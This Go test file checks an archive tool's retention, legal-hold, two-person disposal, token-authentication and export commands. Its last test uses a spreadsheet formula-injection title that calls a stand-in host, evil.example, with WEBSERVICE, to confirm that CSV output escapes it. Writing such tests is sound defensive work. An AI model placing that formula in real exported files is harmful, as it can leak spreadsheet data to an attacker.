package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/gongshi-archive/gongshi/archive"
	"github.com/gongshi-archive/gongshi/archive/blob"
)

var cst = time.FixedZone("CST", 8*3600)

// commandsArchive is the archive the commands open (with their locks), at c's
// clock, closed at the end of the test.
func commandsArchive(t *testing.T, c *cli) *archive.Archive {
	t.Helper()
	cfg := c.config(t)
	cfg.now = func() time.Time { return c.now }
	a, closeArchive, err := cfg.openArchive(context.Background(), env{now: func() time.Time { return c.now }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(closeArchive)
	return a
}

// fileTyped files a record of type typ with body as content through the archive
// the commands open (with their locks), and returns it with a copy of the file.
func fileTyped(t *testing.T, c *cli, typ, title string, body []byte) (archive.Record, string) {
	t.Helper()
	ctx := context.Background()
	a := commandsArchive(t, c)
	d, err := a.PutContent(ctx, bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	rec, err := a.CreateRecord(ctx, archive.Record{Project: ledgerProject, Type: typ, Title: title,
		Issuer: "长春市南关区人民政府", DocNumber: "长征补〔2026〕1号", Date: archive.D(2026, time.March, 18), Format: "pdf", FileName: title + ".pdf", Content: d})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), title+".pdf")
	if err := os.WriteFile(path, body, 0o644); err != nil {
		t.Fatal(err)
	}
	return rec, path
}

// staffToken makes an API token of the account login (that never expires) and
// returns it with the account as an actor ("account:u…").
func staffToken(t *testing.T, c *cli, login string) (token, account string) {
	t.Helper()
	out, errOut, code := c.run("accounts", "token", login, "--name", "保管期限", "--days", "0")
	m := regexp.MustCompile(`gst_(u[a-z2-7]{12})_[a-z0-9_]+`).FindStringSubmatch(out)
	if code != exitOK || m == nil {
		t.Fatalf("token: %d %s %s", code, out, errOut)
	}
	return m[0], "account:" + m[1]
}

func dueIDs(t *testing.T, c *cli) []string {
	t.Helper()
	out, errOut, code := c.run("retention", "due", "--json")
	if code != exitOK {
		t.Fatalf("retention due: %d %s", code, errOut)
	}
	var rows []entryRow
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("retention due --json: %v\n%s", err, out)
	}
	var ids []string
	for _, r := range rows {
		ids = append(ids, r.Record)
	}
	return ids
}

// The whole retention life of records through the CLI on the embedded store,
// whose locks go by the command's clock: filed and locked until due, due exactly
// on the day, held, proposed by one account and approved by another, a
// tombstone that verify and the audit report.
func TestRetentionCommands(t *testing.T) {
	c := &cli{t: t, now: time.Date(2026, 11, 27, 10, 0, 0, 0, cst), env: map[string]string{"GONGSHI_DATA": t.TempDir(), "GONGSHI_ARGON2": testArgon2}}
	createLedgerProject(t, c)
	// Two archivists (one with two tokens) and an inspector.
	c.createAccount("wang.fang", "archivist")
	c.createAccount("li.na", "archivist")
	c.createAccount("zhao.lei", "inspector")
	tokenOf := func(login string) (token, account string) { return staffToken(t, c, login) }
	tokA, accA := tokenOf("wang.fang")
	tokA2, _ := tokenOf("wang.fang")
	tokB, accB := tokenOf("li.na")
	tokI, _ := tokenOf("zhao.lei")
	shared := pdfBody(3)
	chart, _ := fileTyped(t, c, "site_chart", "五化流程图", shared)
	decision, _ := fileTyped(t, c, "decision", "征收决定", shared) // the same content, kept for ever
	gone, goneFile := fileTyped(t, c, "site_chart", "任务分解表", pdfBody(4))
	st := c.store(t)
	ctx := context.Background()

	// Filed and locked until its disposal date: 10 years from 1 January after the document's date.
	out, errOut, code := c.run("retention", "status", gone.ID, "--json")
	var row entryRow
	if code != exitOK || json.Unmarshal([]byte(out), &row) != nil {
		t.Fatalf("status: %d %s %s", code, out, errOut)
	}
	if row.Period != "D10" || row.Due != archive.D(2037, 1, 1) || row.State != "kept" {
		t.Fatalf("status of a D10 record dated 2026-03-18: %+v", row)
	}
	goneKey := archive.ContentKey(gone.Content.SHA256)
	r, err := st.Retention(ctx, goneKey)
	if err != nil || !r.Until.Equal(time.Date(2037, 1, 1, 0, 0, 0, 0, cst)) {
		t.Fatalf("content of a D10 record locked until %v (%v), want 2037-01-01 00:00 CST", r.Until, err)
	}
	if r, err := st.Retention(ctx, archive.ContentKey(decision.Content.SHA256)); err != nil || r.Until.Before(time.Date(2126, 1, 1, 0, 0, 0, 0, cst)) {
		t.Fatalf("content shared with a permanent record locked until %v (%v), want a century", r.Until, err)
	}
	if err := st.Delete(ctx, goneKey); !errors.Is(err, blob.ErrLocked) {
		t.Fatalf("deleting a locked object: %v", err)
	}
	if ids := dueIDs(t, c); len(ids) != 0 {
		t.Fatalf("due at filing: %v", ids)
	}

	// Not a moment before the period ends; exactly when it does.
	c.now = time.Date(2036, 12, 31, 23, 59, 59, 0, cst)
	if ids := dueIDs(t, c); len(ids) != 0 {
		t.Fatalf("due a second before the period ends: %v", ids)
	}
	c.now = time.Date(2037, 1, 1, 0, 0, 0, 0, cst)
	if ids := dueIDs(t, c); len(ids) != 2 {
		t.Fatalf("due when the period ends: %v, want the two site charts", ids)
	}

	// A receipt saved before the disposal.
	receipt := filepath.Join(t.TempDir(), "任务分解表.receipt.json")
	if _, errOut, code := c.run("verify", goneFile, "--save-receipt", receipt); code != exitOK {
		t.Fatalf("verify --save-receipt: %d %s", code, errOut)
	}

	// A held record is never due, and cannot be disposed of.
	// A hold is placed by an archivist's token, never by an account named on trust.
	holdArgs := []string{"retention", "hold", "--record", gone.ID, "--reason", "（2037）吉0102行初1号行政诉讼审理中", "--json"}
	if _, errOut, code := c.run(append(holdArgs, "--as", "u2ab3cd4ef5gh")...); code != exitOperator || !strings.Contains(errOut, "--as is gone") || !strings.Contains(errOut, "--token") {
		t.Fatalf("hold --as: %d %s", code, errOut)
	}
	if _, errOut, code := c.run(holdArgs...); code != exitOperator || !strings.Contains(errOut, "legal hold") || !strings.Contains(errOut, "GONGSHI_TOKEN") {
		t.Fatalf("hold without a token: %d %s", code, errOut)
	}
	if _, errOut, code := c.run(append(holdArgs, "--token", tokI)...); code != exitNo || !strings.Contains(errOut, "does not have the role a legal hold needs (archivist)") {
		t.Fatalf("hold by an inspector: %d %s", code, errOut)
	}
	if _, errOut, code := c.run(append(holdArgs, "--token", tokA+"x")...); code != exitNo || !strings.Contains(errOut, "not an active staff account") {
		t.Fatalf("hold with a forged token: %d %s", code, errOut)
	}
	if out, _, _ := c.run("retention", "holds", "--all", "--json"); strings.TrimSpace(out) != "[]" {
		t.Fatalf("refused holds stored something: %s", out)
	}
	out, errOut, code = c.run(append(holdArgs, "--token", tokA)...)
	var hold holdReport
	if code != exitOK || json.Unmarshal([]byte(out), &hold) != nil || hold.Actor != accA {
		t.Fatalf("hold: %d %s %s", code, out, errOut)
	}
	if r, _ := st.Retention(ctx, goneKey); !r.LegalHold {
		t.Fatal("the hold set no legal hold on the record's content")
	}
	if ids := dueIDs(t, c); len(ids) != 1 || ids[0] != chart.ID {
		t.Fatalf("due with one record held: %v", ids)
	}
	list := filepath.Join(t.TempDir(), "鉴定.csv")
	if err := os.WriteFile(list, []byte(chart.ID+"\n"+gone.ID+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, errOut, code = c.run("retention", "dispose", "--propose", list, "--token", tokA, "--reason", "鉴定会议决定销毁")
	if code != exitNo || !strings.Contains(errOut, gone.ID+" is held") {
		t.Fatalf("proposing a held record: %d %s", code, errOut)
	}
	if _, errOut, code := c.run("retention", "release", hold.Hold, "--reason", "判决已生效", "--token", tokI); code != exitNo || !strings.Contains(errOut, "needs (archivist)") {
		t.Fatalf("release by an inspector: %d %s", code, errOut)
	}
	out, errOut, code = c.run("retention", "release", hold.Hold, "--reason", "判决已生效", "--token", tokB, "--json")
	var released holdReport
	if code != exitOK || json.Unmarshal([]byte(out), &released) != nil || released.Actor != accB || released.Status != "released" {
		t.Fatalf("release: %d %s %s", code, out, errOut)
	}
	if r, _ := st.Retention(ctx, goneKey); r.LegalHold {
		t.Fatal("the release left the legal hold on the record's content")
	}

	// The list as 'due --csv' writes it; a dry run stores nothing.
	csvOut, _, code := c.run("retention", "due", "--csv")
	if code != exitOK || !strings.HasPrefix(csvOut, "\ufeff记录标识,") {
		t.Fatalf("due --csv: %d %q", code, csvOut)
	}
	if err := os.WriteFile(list, []byte(csvOut), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, errOut, code := c.run("retention", "dispose", "--propose", list, "--reason", "x"); code != exitOperator || !strings.Contains(errOut, "--token") {
		t.Fatalf("propose without an account: %d %s", code, errOut)
	}
	if _, errOut, code := c.run("retention", "dispose", "--propose", list, "--reason", "x", "--token", tokI); code != exitNo || !strings.Contains(errOut, "archivist") {
		t.Fatalf("propose by an inspector: %d %s", code, errOut)
	}
	if _, errOut, code := c.run("retention", "dispose", "--propose", list, "--reason", "x", "--token", tokA+"x"); code != exitNo || !strings.Contains(errOut, "not an active staff account") {
		t.Fatalf("propose with a forged token: %d %s", code, errOut)
	}
	out, errOut, code = c.run("retention", "dispose", "--propose", list, "--token", tokA, "--reason", "鉴定会议决定销毁", "--dry-run")
	if code != exitOK || !strings.Contains(out, "dry run") {
		t.Fatalf("propose --dry-run: %d %s %s", code, out, errOut)
	}
	if out, _, _ := c.run("retention", "disposals"); !strings.Contains(out, "disposals: 0") {
		t.Fatalf("a dry run stored a disposal: %s", out)
	}
	c.env["GONGSHI_TOKEN"] = tokA // from the environment, out of the process list
	out, errOut, code = c.run("retention", "dispose", "--propose", list, "--reason", "鉴定会议决定销毁", "--json")
	delete(c.env, "GONGSHI_TOKEN")
	var plan struct {
		Disposal struct {
			ID string `json:"id"`
		} `json:"disposal"`
		Delete []string `json:"delete"`
	}
	if code != exitOK || json.Unmarshal([]byte(out), &plan) != nil || plan.Disposal.ID == "" {
		t.Fatalf("propose: %d %s %s", code, out, errOut)
	}
	id := plan.Disposal.ID
	// The proposer's other token is the same person.
	out, errOut, code = c.run("retention", "dispose", "--approve", id, "--token", tokA2, "--reason", "同意")
	if code != exitNo || !strings.Contains(errOut, "another account must approve") {
		t.Fatalf("approval by the proposer's second token: %d %s %s", code, out, errOut)
	}
	out, errOut, code = c.run("retention", "dispose", "--approve", id, "--token", tokB, "--reason", "同意销毁", "--dry-run")
	if code != exitOK || !strings.Contains(out, "dry run") || !strings.Contains(out, "content objects that would be deleted: 1") {
		t.Fatalf("approve --dry-run: %d %s %s", code, out, errOut)
	}
	if _, err := st.Stat(ctx, goneKey); err != nil {
		t.Fatalf("a dry run deleted content: %v", err)
	}
	out, errOut, code = c.run("retention", "dispose", "--approve", id, "--token", tokB, "--reason", "同意销毁")
	if code != exitOK || !strings.Contains(out, "已销毁") || !strings.Contains(out, "destruction list of "+ledgerProject+": record ") {
		t.Fatalf("approve: %d %s %s", code, out, errOut)
	}
	if _, err := st.Stat(ctx, goneKey); !errors.Is(err, blob.ErrNotFound) {
		t.Fatalf("content of the disposed record: %v, want it deleted", err)
	}
	if _, err := st.Stat(ctx, archive.ContentKey(chart.Content.SHA256)); err != nil {
		t.Fatalf("content shared with a kept record: %v, want it kept", err)
	}
	out, _, _ = c.run("retention", "due", "--all", "--json")
	var all []entryRow
	if err := json.Unmarshal([]byte(out), &all); err != nil {
		t.Fatal(err)
	}
	states := map[string]string{}
	for _, r := range all {
		states[r.Record] = string(r.State)
		if r.Type == "destruction_list" {
			states["register"] = string(r.State)
		}
	}
	if states[gone.ID] != "disposed" || states[chart.ID] != "disposed" || states[decision.ID] != "permanent" || states["register"] != "permanent" {
		t.Fatalf("states after the disposal: %v", states)
	}
	if _, errOut, code := c.run("retention", "dispose", "--approve", id, "--token", tokB, "--reason", "again"); code != exitNo || !strings.Contains(errOut, "carried out already") {
		t.Fatalf("approving a done disposal again: %d %s", code, errOut)
	}

	// verify of the old file says disposed of, when and by whom; the audit is clean.
	out, errOut, code = c.run("verify", goneFile)
	if !strings.Contains(out, "已销毁") || !strings.Contains(out, id) || !strings.Contains(out, accB) || !strings.Contains(out, accA) {
		t.Fatalf("verify of a disposed file: %d\n%s\n%s", code, out, errOut)
	}
	key, _, _ := c.run("keys", "show")
	out, errOut, code = c.run("verify", goneFile, "--receipt", receipt, "--key", strings.TrimSpace(key))
	if code != exitOK || !strings.Contains(out, "已销毁") || !strings.Contains(out, id) {
		t.Fatalf("verify of a disposed file with a receipt saved before: %d\n%s\n%s", code, out, errOut)
	}
	rep, code := c.audit(t)
	if code != exitOK {
		t.Fatalf("audit after a disposal: %d %+v", code, rep)
	}
	notice := false
	for _, n := range rep.Notices {
		notice = notice || n.Kind == "content_disposed" && n.Key == goneKey
	}
	if !notice {
		t.Fatalf("the audit does not name the disposed content: %+v", rep.Notices)
	}

	// lock is idempotent: a second run changes nothing.
	c.run("retention", "lock")
	out, errOut, code = c.run("retention", "lock", "--json")
	var lr struct {
		Extended, Held, Schedules int
	}
	if code != exitOK || json.Unmarshal([]byte(out), &lr) != nil || lr.Extended+lr.Held+lr.Schedules != 0 {
		t.Fatalf("second retention lock: %d %s %s", code, out, errOut)
	}
}

// Holds and locks on MinIO through the CLI: the server's object lock and legal
// hold, in the configured mode.
func TestRetentionCommandsS3(t *testing.T) {
	c := backends(t)["s3"](t)
	c.env["GONGSHI_ARGON2"] = testArgon2
	createLedgerProject(t, c)
	c.createAccount("wang.fang", "archivist")
	tok, _ := staffToken(t, c, "wang.fang")
	c.env["GONGSHI_TOKEN"] = tok
	rec, _ := fileTyped(t, c, "site_chart", "五化流程图", pdfBody(5))
	st := c.store(t)
	ctx := context.Background()
	key := archive.ContentKey(rec.Content.SHA256)
	r, err := st.Retention(ctx, key)
	if err != nil || !r.Until.Equal(time.Date(2037, 1, 1, 0, 0, 0, 0, cst)) || r.Mode != blob.Governance {
		t.Fatalf("content on S3: %+v %v", r, err)
	}
	out, errOut, code := c.run("retention", "hold", "--project", ledgerProject, "--reason", "行政诉讼", "--json")
	var hold holdReport
	if code != exitOK || json.Unmarshal([]byte(out), &hold) != nil {
		t.Fatalf("hold: %d %s %s", code, out, errOut)
	}
	if r, _ := st.Retention(ctx, key); !r.LegalHold {
		t.Fatal("a project hold set no legal hold on S3")
	}
	if out, _, _ := c.run("retention", "holds"); !strings.Contains(out, hold.Hold) {
		t.Fatalf("holds: %s", out)
	}
	if _, errOut, code := c.run("retention", "release", hold.Hold, "--reason", "撤诉"); code != exitOK {
		t.Fatalf("release: %d %s", code, errOut)
	}
	if _, _, code := c.run("retention", "release", hold.Hold, "--reason", "撤诉"); code != exitNo {
		t.Fatalf("a second release: %d, want 1", code)
	}
	if r, _ := st.Retention(ctx, key); r.LegalHold {
		t.Fatal("the release left the legal hold on S3")
	}
	out, errOut, code = c.run("retention", "lock", "--json")
	if code != exitOK {
		t.Fatalf("lock: %d %s %s", code, out, errOut)
	}
}

// An extension and the close of a project are made by an archivist's token, and
// recorded under that account; without one, or with another role's, or with
// the old --as, nothing is changed.
func TestRetentionChangesTakeAToken(t *testing.T) {
	c := &cli{t: t, now: time.Date(2026, 11, 27, 10, 0, 0, 0, cst), env: map[string]string{"GONGSHI_DATA": t.TempDir(), "GONGSHI_ARGON2": testArgon2}}
	createLedgerProject(t, c)
	c.createAccount("wang.fang", "archivist")
	c.createAccount("zhao.lei", "inspector")
	tokA, accA := staffToken(t, c, "wang.fang")
	tokI, _ := staffToken(t, c, "zhao.lei")
	rec, _ := fileTyped(t, c, "site_chart", "五化流程图", pdfBody(7))
	st := c.store(t)
	ctx := context.Background()
	extensions := func() (n int, last string) {
		t.Helper()
		st.List(ctx, "retention/"+rec.ID+"/", "", func(i blob.Info) error {
			rc, err := st.Get(ctx, i.Key)
			if err != nil {
				t.Fatal(err)
			}
			defer rc.Close()
			b, _ := io.ReadAll(rc)
			n, last = n+1, string(b)
			return nil
		})
		return n, last
	}
	before, _ := extensions()
	extend := []string{"retention", "extend", rec.ID, "--period", "D30", "--reason", "涉及历史遗留问题，延长保管"}
	closeP := []string{"retention", "close", ledgerProject, "--date", "2026-11-20", "--reason", "项目结束"}
	for _, args := range [][]string{extend, closeP} {
		what := args[1]
		if _, errOut, code := c.run(args...); code != exitOperator || !strings.Contains(errOut, "--token T or set GONGSHI_TOKEN") {
			t.Fatalf("%s without a token: %d %s", what, code, errOut)
		}
		if _, errOut, code := c.run(append(args, "--as", strings.TrimPrefix(accA, "account:"))...); code != exitOperator || !strings.Contains(errOut, "--as is gone") {
			t.Fatalf("%s --as: %d %s", what, code, errOut)
		}
		if _, errOut, code := c.run(append(args, "--token", tokI)...); code != exitNo || !strings.Contains(errOut, "needs (archivist)") {
			t.Fatalf("%s by an inspector: %d %s", what, code, errOut)
		}
	}
	if n, _ := extensions(); n != before {
		t.Fatalf("refused extensions stored %d versions", n-before)
	}
	if out, errOut, code := c.run(append(extend, "--token", tokA)...); code != exitOK {
		t.Fatalf("extend: %d %s %s", code, out, errOut)
	}
	if n, last := extensions(); n != before+1 || !strings.Contains(last, `"actor": "`+accA+`"`) && !strings.Contains(last, `"actor":"`+accA+`"`) {
		t.Fatalf("the extension (%d versions, was %d) is not recorded under %s: %s", n, before, accA, last)
	}
	c.env["GONGSHI_TOKEN"] = tokA
	if out, errOut, code := c.run(closeP...); code != exitOK || !strings.Contains(out, "closed") {
		t.Fatalf("close with GONGSHI_TOKEN: %d %s %s", code, out, errOut)
	}
}

// gongshi export writes a valid bag on both backends; export --check finds it
// valid with the archive's key and names an altered file.
func TestExportCommand(t *testing.T) {
	for name, newCLI := range backends(t) {
		t.Run(name, func(t *testing.T) {
			c := newCLI(t)
			createLedgerProject(t, c)
			rec, _ := fileTyped(t, c, "decision", "征收决定", pdfBody(6))
			gone := disposedWithTable(t, c)
			dir := filepath.Join(t.TempDir(), "移交", ledgerProject)
			if err := os.MkdirAll(filepath.Dir(dir), 0o700); err != nil {
				t.Fatal(err)
			}
			out, errOut, code := c.run("export", ledgerProject, "--out", dir)
			if code != exitOK || !strings.Contains(out, "2 records (1 disposed of)") || !strings.Contains(out, "accepted") {
				t.Fatalf("export: %d %s %s", code, out, errOut)
			}
			// The disposed record: its versions and its table's, not its content or the table's CSV.
			for rel, want := range map[string]bool{"000002.json": true, "table/000001.json": true, "content.pdf": false, "table/table.csv": false} {
				if _, err := os.Stat(filepath.Join(dir, "data", "records", gone.ID, filepath.FromSlash(rel))); (err == nil) != want {
					t.Errorf("the disposed record's %s in the bag: %v, want it there: %v", rel, err, want)
				}
			}
			if _, errOut, code := c.run("export", ledgerProject, "--out", dir); code != exitOperator || !strings.Contains(errOut, "exists already") {
				t.Fatalf("export over a bag: %d %s", code, errOut)
			}
			key, _, _ := c.run("keys", "show")
			out, errOut, code = c.run("export", "--check", dir, "--key", strings.TrimSpace(key), "--json")
			var res struct {
				Valid    bool `json:"valid"`
				Receipts int  `json:"receipts_verified"`
				Files    int  `json:"files"`
			}
			if code != exitOK || json.Unmarshal([]byte(out), &res) != nil || !res.Valid || res.Receipts != 1 {
				t.Fatalf("export --check: %d %s %s", code, out, errOut)
			}
			p := filepath.Join(dir, "data", "records", rec.ID, "content.pdf")
			b, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			b[10] ^= 1
			if err := os.WriteFile(p, b, 0o600); err != nil {
				t.Fatal(err)
			}
			out, _, code = c.run("export", "--check", dir)
			if code != exitNo || !strings.Contains(out, "NOT a valid bag") || !strings.Contains(out, "content.pdf") {
				t.Fatalf("export --check of an altered bag: %d %s", code, out)
			}
		})
	}
}

// disposedWithTable files a survey with a per-household table through the
// archive the commands open, and disposes of it (its tombstone; the retention
// rules are the disposal command's business, tested above).
func disposedWithTable(t *testing.T, c *cli) archive.Record {
	t.Helper()
	rec, _ := fileTyped(t, c, "survey_result", "调查登记结果（第一批）", pdfBody(9))
	ctx := context.Background()
	a := commandsArchive(t, c)
	body := []byte("户号,户主,建筑面积\n0002,李四,72.0\n")
	d, err := a.PutContent(ctx, bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.PutTable(ctx, archive.Table{Record: rec.ID, Content: d, Encoding: "utf-8", Key: "户号", Rows: 1,
		Columns: []archive.TableColumn{{Name: "户号", Policy: archive.ColumnPublic}, {Name: "户主", Policy: archive.ColumnMasked, Mask: archive.MaskName},
			{Name: "建筑面积", Policy: archive.ColumnPublic}},
		MaskRule: "test-1", Masked: archive.Hash{2}, Window: archive.DateWindow{From: archive.D(2026, 3, 1), To: archive.D(2026, 3, 8)}}); err != nil {
		t.Fatal(err)
	}
	if _, err := a.DisposeRecord(ctx, rec.ID, 1, archive.Disposal{List: "D20370105-k3mdx2qa", Proposer: archive.AccountActor("ualice0000001"),
		Approver: archive.AccountActor("ubob00000001"), Approved: c.now}, archive.AccountActor("ubob00000001")); err != nil {
		t.Fatal(err)
	}
	return rec
}

// 'retention due --csv' is opened in a spreadsheet by the appraisal meeting: a
// title that is a formula is shown as text, and the list still reads back for
// 'dispose --propose'.
func TestRetentionDueCSVRunsNoFormula(t *testing.T) {
	c := &cli{t: t, now: time.Date(2026, 11, 27, 10, 0, 0, 0, cst), env: map[string]string{"GONGSHI_DATA": t.TempDir()}}
	createLedgerProject(t, c)
	title := `=WEBSERVICE("evil.example?d="&A2)&"打开"`
	rec, _ := fileTyped(t, c, "site_chart", title, pdfBody(8))
	out, errOut, code := c.run("retention", "due", "--all", "--csv")
	if code != exitOK {
		t.Fatalf("due --csv: %d %s", code, errOut)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("due --csv: %d rows, %v:\n%s", len(rows), err, out)
	}
	if rows[1][0] != rec.ID || rows[1][3] != "'"+title {
		t.Fatalf("due --csv row %q: want the title %q behind a quote", rows[1], title)
	}
	list := filepath.Join(t.TempDir(), "鉴定.csv")
	if err := os.WriteFile(list, []byte(out), 0o600); err != nil {
		t.Fatal(err)
	}
	if ids, err := readList(list); err != nil || len(ids) != 1 || ids[0] != rec.ID {
		t.Fatalf("the list read back: %v, %v", ids, err)
	}
}
